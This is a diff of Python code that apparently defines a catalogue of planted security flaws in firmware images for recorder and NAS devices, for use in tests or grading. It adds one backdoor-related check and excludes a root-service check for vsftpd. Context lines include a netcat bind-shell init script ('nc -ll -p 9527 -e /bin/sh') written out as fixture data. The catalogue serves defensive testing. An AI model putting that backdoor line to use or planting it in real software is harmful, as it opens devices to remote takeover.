@@ -350,6 +350,7 @@ RECORDER_MISTAKES = (
         {"etc/init.d/S98maint": script('[ "$1" = start ] && nc -ll -p 9527 -e /bin/sh >/dev/null 2>&1 &\n')},
     ),
     Mistake("undeclared-listener", "BusyBox nc -l -p PORT", "9527"),
+    Mistake("mac-profile-missing", "follows from backdoor-listener: no profile is for nc", "S98maint"),
     Mistake(
         "script-injection",
         "PHP manual, exec: use escapeshellarg for what users give",
@@ -753,7 +754,7 @@ NAS_MISTAKES = (
     ),
     Mistake("plaintext-protocol", "RFC 959; vsftpd.conf(5), ssl_enable is NO without a line", "ftp"),
     Mistake("undeclared-listener", "vsftpd.conf(5), listen_port is 21 without a line", "21"),
-    *stranger("vsftpd"),
+    *(one for one in stranger("vsftpd") if one.check != "service-runs-as-root"),
     Mistake(
         "script-injection",
         "perlsec(1), perlop(1) qx: a shell gets what the request says",
